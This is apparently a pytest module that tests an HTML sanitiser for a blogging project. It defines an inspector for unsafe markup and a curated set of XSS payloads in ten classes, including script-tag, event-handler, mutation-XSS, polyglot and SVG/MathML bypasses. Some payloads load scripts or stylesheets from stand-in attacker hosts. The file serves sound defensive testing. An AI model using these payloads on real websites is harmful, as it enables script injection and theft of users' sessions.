"""The HTML allow-list for text blocks (nh3), and the project's own XSS list.

This module holds what the XSS suites share: the `Inspector` that finds unsafe markup in a
page or fragment, the curated payloads for every class of ../shared/corpus/xss.index.tsv,
and the reader of the shared corpus. Here every payload goes through the sanitiser alone;
test_xss.py sends them through the API to every surface a reader sees.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bulletin.render.sanitize import TAGS, sanitize_html

# ---------------------------------------------------------------------------------------
# The inspector: what must never appear in what Bulletin serves
# ---------------------------------------------------------------------------------------

FORBIDDEN_ELEMENTS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
    "math", "style", "form", "isindex", "template", "noscript", "xmp", "listing", "plaintext",
    "noembed", "textarea", "select", "input", "keygen", "portal", "param",
})
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "dynsrc", "lowsrc", "codebase", "cite", "longdesc", "usemap", "ping", "manifest", "icon",
    "archive", "profile", "classid", "folder", "to", "values", "from", "by", "srcset",
})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
PAGE_LINK_RELS = frozenset({"canonical", "alternate", "icon", "manifest"})
# Judged strictly: every blank and control character removed (browsers drop some of them
# around and inside a scheme, older ones more), then entity-decoded by the parser.
_IGNORED_IN_SCHEME = re.compile(
    "[\x00-\x20\x7f-\x9f\u00a0\u1680\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) attribute value."""
    match = _SCHEME.match(_IGNORED_IN_SCHEME.sub("", value).lower())
    return match.group(1) if match else None


def _is_own_static(url: str) -> bool:
    return url.startswith("/static/") and "//" not in url and "\\" not in url


class Inspector(HTMLParser):
    """Parses a page (`page=True`) or a fragment and lists everything unsafe in it. It also
    collects every text run and attribute value, to prove that payloads arrived as text."""

    def __init__(self, *, page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.problems: list[str] = []
        self.problem_posts: list[int | None] = []  # the post (article) each problem is in
        self._articles: list[int | None] = []
        self.texts: list[str] = []
        self.attribute_values: list[tuple[str, str, str]] = []
        self._script: tuple[dict[str, str], list[str]] | None = None

    def problem(self, what: str) -> None:
        self.problems.append(what)
        self.problem_posts.append(self._articles[-1] if self._articles else None)

    def problems_in(self, post_id: int | None) -> list[str]:
        return [p for p, where in zip(self.problems, self.problem_posts, strict=True)
                if where == post_id]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "article":
            post_id = values.get("data-id", "")
            self._articles.append(int(post_id) if post_id.isdigit() else None)
        if tag == "script":
            self._script = (values, [])
        elif tag in FORBIDDEN_ELEMENTS:
            self.problem(f"<{tag}> element")
        if tag == "meta" and ("http-equiv" in values or
                              values.get("charset", "utf-8").lower() != "utf-8"):
            self.problem(f"<meta {' '.join(values)}>")
        if tag == "link":  # the page's own links; a stylesheet only from /static/
            rel, href = values.get("rel", "").lower(), values.get("href", "")
            if not (self.page and (rel in PAGE_LINK_RELS or
                                   (rel == "stylesheet" and _is_own_static(href)))):
                self.problem(f"<link {values}>")
        for name, value in values.items():
            self.attribute_values.append((tag, name, value))
            self._attribute(tag, name, value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problem(f"event handler {name}= on <{tag}>")
        elif name == "style":
            self.problem(f"style= on <{tag}>")
        elif name == "srcdoc":
            self.problem(f"srcdoc= on <{tag}>")
        elif name in URL_ATTRIBUTES:
            candidates = [c.strip().split(" ")[0] for c in value.split(",")] \
                if name == "srcset" else [value]
            for url in candidates:
                scheme = url_scheme(url)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problem(f"{scheme}: URL in {name}= on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "article" and self._articles:
            self._articles.pop()
        if tag != "script" or self._script is None:
            return
        attrs, chunks = self._script
        self._script = None
        inline = "".join(chunks)
        src = attrs.get("src", "")
        if self.page and src and _is_own_static(src) and not inline.strip():
            return  # the page's own script, e.g. <script src="/static/reader.js">
        if (self.page and not src and attrs.get("type") == "application/ld+json"
                and "<" not in inline and _parses_as_json(inline)):
            return  # structured data: inert, and nothing in it could close the element
        self.problem(f"<script {attrs}> with {inline[:60]!r}")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.problem(f"comment <!--{data[:40]}-->")

    def handle_pi(self, data: str) -> None:
        self.problem(f"processing instruction <?{data[:40]}>")

    def unknown_decl(self, data: str) -> None:
        self.problem(f"declaration <![{data[:40]}>")

    def handle_decl(self, decl: str) -> None:
        if not (self.page and decl.lower() == "doctype html"):
            self.problem(f"declaration <!{decl[:40]}>")


def _parses_as_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def inspect(html: str, *, page: bool) -> Inspector:
    inspector = Inspector(page=page)
    inspector.feed(html)
    inspector.close()
    if inspector._script is not None:
        inspector.problem("unterminated <script>")
    return inspector


def find_unsafe(html: str, *, page: bool = False) -> list[str]:
    """Everything unsafe in `html` (a page, or a fragment such as a post's rendered HTML)."""
    return inspect(html, page=page).problems


# ---------------------------------------------------------------------------------------
# The project's own list: representative payloads for every class in xss.index.tsv
# ---------------------------------------------------------------------------------------

CURATED: dict[str, list[str]] = {
    "script-tag": [
        "<script>alert(document.domain)</script>",
        "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "</p><script>fetch('/api/v1/blogs')</script><p>",
        "<script type=module>import('//evil.example/m.js')</script>",
        "<p>Storm update<script>document.cookie</script> continues</p>",
    ],
    "event-handler": [
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">Tap here</p>",
        "<a href=\"https://news.example/\" onmouseover=\"alert(1)\">report</a>",
        "<strong onpointerenter=alert(1)>bold claim</strong>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<em/onfocus=alert(1)/tabindex=1/autofocus>x</em>",
    ],
    "dangerous-url": [
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
        "<a href=\"  javascript:alert(1)\">leading spaces</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
        "<a href=\"java\tscript:alert(1)\">tab inside</a>",
        "<img src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    ],
    "attribute-breakout": [
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "\"><img src=x onerror=alert(1)>",
        "</h2><script>alert(1)</script>",
        "</title></textarea><script>alert(1)</script>",
        "<a href=\"https://news.example/\" title=\"x\" onclick=\"alert(1)\">t</a>",
    ],
    "css": [
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<strong style=\"position:fixed;inset:0\">overlay</strong>",
    ],
    "encoded": [
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
        "alert(1)\">hex</a>",
        "<a href=\"javascript&colon;alert(1)\">named colon</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href=\"%6a%61vascript:alert(1)\">percent</a>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<a href=\"&#0000106&#0000097vascript:alert(1)\">padded</a>",
    ],
    "frame-object-base-meta": [
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    ],
    "mutation-xss": [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><p><style><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<p title=\"--><img src=x onerror=alert(1)>\">x</p>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    ],
    "polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>",
        "'\"--></style></script></title></textarea><img src=x onerror=alert(1)>",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
        "</noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert(1)//>",
        "\"'><svg/onload=alert(1)><a href=\"javascript:alert(1)\">x</a>",
    ],
    "svg-mathml": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x"
        "</maction></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    ],
}
CATEGORIES = sorted(CURATED)


# ---------------------------------------------------------------------------------------
# The shared corpus
# ---------------------------------------------------------------------------------------

def corpus_dir(repo_root: Path) -> Path:
    folder = repo_root.parent / "shared" / "corpus"
    if not (folder / "xss.txt").is_file() or not (folder / "xss.index.tsv").is_file():
        pytest.fail(f"The XSS corpus is missing: expected {folder}/xss.txt and xss.index.tsv "
                    "(CI runs with shared/ beside the repository).", pytrace=False)
    return folder


def read_corpus(repo_root: Path) -> list[tuple[int, str, str, str]]:
    """(line, category, note, payload) for every line of xss.txt; split on LF only."""
    folder = corpus_dir(repo_root)
    lines = (folder / "xss.txt").read_bytes().decode("utf-8").split("\n")
    if lines[-1] == "":
        lines.pop()
    index: dict[int, tuple[str, str]] = {}
    for row in (folder / "xss.index.tsv").read_text("utf-8").split("\n")[1:]:
        if row:
            number, category, _source, note = row.split("\t")
            index[int(number)] = (category, note)
    assert len(index) == len(lines), (len(index), len(lines))
    return [(n, *index[n], payload) for n, payload in enumerate(lines, start=1)]


def test_the_corpus_is_read_whole_and_every_class_is_curated(repo_root: Path) -> None:
    corpus = read_corpus(repo_root)
    assert len(corpus) == 252
    assert len({payload for *_, payload in corpus}) == 252
    assert any(payload.startswith(" ") for *_, payload in corpus)  # nothing was stripped
    assert any("\t" in payload for *_, payload in corpus)
    assert {category for _, category, _, _ in corpus} == set(CURATED)
    assert all(len(payloads) >= 4 for payloads in CURATED.values())
    assert not any("\n" in p or "\r" in p for ps in CURATED.values() for p in ps)


# ---------------------------------------------------------------------------------------
# The sanitiser
# ---------------------------------------------------------------------------------------

REL = 'rel="noopener noreferrer nofollow ugc"'
# nh3 also keeps its generic `lang` and `title` attributes: plain text, never executed.
ALLOWED_ATTRIBUTES = {"a": {"href", "rel", "lang", "title"}}
GENERIC_ATTRIBUTES = {"lang", "title"}


@pytest.mark.parametrize(("html", "expected"), [
    ("<p>Plain <strong>bold</strong> and <em>italic</em>.</p>",
     "<p>Plain <strong>bold</strong> and <em>italic</em>.</p>"),
    ("<p><b>b</b> <i>i</i></p>", "<p><b>b</b> <i>i</i></p>"),
    ("<ul><li>One</li></ul><ol><li>Two</li></ol>", "<ul><li>One</li></ul><ol><li>Two</li></ol>"),
    ("<blockquote>Quoted</blockquote>", "<blockquote>Quoted</blockquote>"),
    ("Line<br>break", "Line<br>break"),
    ('<a href="https://news.example/a?b=1&amp;c=2">report</a>',
     f'<a href="https://news.example/a?b=1&amp;c=2" {REL}>report</a>'),
    ('<a href="mailto:desk@news.example">Tip us</a>',
     f'<a href="mailto:desk@news.example" {REL}>Tip us</a>'),
    ("AT&amp;T says a &lt; b", "AT&amp;T says a &lt; b"),
], ids=["strong-em", "b-i", "lists", "blockquote", "br", "link", "mailto", "entities"])
def test_the_text_subset_is_kept(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


@pytest.mark.parametrize(("html", "expected"), [
    ("<script>alert(1)</script>Safe", "Safe"),
    ("<style>p{color:red}</style>Safe", "Safe"),
    ("<iframe src='https://e.example/'>inside</iframe>After", "After"),
    ("<svg><circle onload=alert(1)></circle>text</svg>After", "After"),
    ("<!-- a comment -->Text", "Text"),
    ("<h1>Big</h1><div>Box</div>", "BigBox"),
    ('<p onclick="x()" style="color:red" class="c" id="i">Hi</p>', "<p>Hi</p>"),
    ('<img src="x" onerror="alert(1)">Caption', "Caption"),
    ('<a href="javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', f"<a {REL}>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', f"<a {REL}>x</a>"),
    ('<a href="&#xA0;javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ('<a href="&#x2000;javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ('<a href="https://news.example/" target="_blank" rel="opener">x</a>',
     f'<a href="https://news.example/" {REL}>x</a>'),
], ids=["script", "style", "iframe", "svg", "comment", "unknown-tags", "attributes", "img",
        "javascript-href", "mixed-case-href", "data-href", "vbscript-href", "nbsp-href",
        "en-quad-href", "target-and-rel"])
def test_everything_else_is_removed(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, set[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name for name, _ in attrs}))


def outside_the_allow_list(html: str) -> list[str]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return [f"<{tag} {sorted(names)}>" for tag, names in parser.found
            if tag not in TAGS or names - ALLOWED_ATTRIBUTES.get(tag, GENERIC_ATTRIBUTES)]


def assert_neutralised(label: str, payload: str) -> None:
    clean = sanitize_html(payload)
    assert find_unsafe(clean) == [], (label, payload, clean)
    assert outside_the_allow_list(clean) == [], (label, payload, clean)
    # Sanitising its own output changes nothing: the sanitiser and the browser's parser
    # agree on the markup, so nothing mutates into live markup when it is parsed again.
    assert sanitize_html(clean) == clean, (label, payload, clean)


@pytest.mark.parametrize("category", CATEGORIES)
def test_curated_payloads_are_neutralised(category: str) -> None:
    for i, payload in enumerate(CURATED[category], start=1):
        assert_neutralised(f"{category}#{i}", payload)


@pytest.mark.parametrize("category", CATEGORIES)
def test_every_corpus_payload_is_neutralised(repo_root: Path, category: str) -> None:
    payloads = [(line, payload) for line, cat, _, payload in read_corpus(repo_root)
                if cat == category]
    assert payloads
    for line, payload in payloads:
        assert_neutralised(f"xss.txt:{line}", payload)


def test_the_inspector_sees_what_it_must() -> None:
    """The checker used by the XSS suites is not blind (each line is one unsafe thing)."""
    unsafe = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        '<a href=" java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:x">x</a>',
        '<a href="&#xA0;javascript:x">x</a>', '<a href="VBSCRIPT:x">x</a>',
        '<iframe src="https://e.example/"></iframe>', '<p style="color:red">x</p>',
        '<meta http-equiv="refresh" content="0">', "<base href=/>", "<svg></svg>",
        "<math></math>", "<style></style>", '<object data="x"></object>', "<embed src=x>",
        '<form action="https://e.example/"></form>', '<button formaction="data:x">b</button>',
        '<svg><a xlink:href="javascript:x">x</a></svg>', "<!-- c -->",
        '<script src="/static/reader.js"></script>',
    ]
    for html in unsafe:
        assert find_unsafe(html), html
    page = ('<!doctype html><html><head><link rel="stylesheet" href="/static/reader.css">'
            '<link rel="stylesheet" href="https://evil.example/x.css"></head><body>'
            '<script src="/static/reader.js" defer></script>'
            '<script src="/static/reader.js">alert(1)</script>'
            '<script src="//evil.example/static/x.js"></script></body></html>')
    assert len(find_unsafe(page, page=True)) == 3
    safe = ('<p>Hi <a href="https://news.example/" rel="nofollow">x</a> <a href="/blogs/x">y'
            '</a> <a href="#post-1">z</a> <a href="mailto:a@b.example">m</a></p>')
    assert find_unsafe(safe) == []
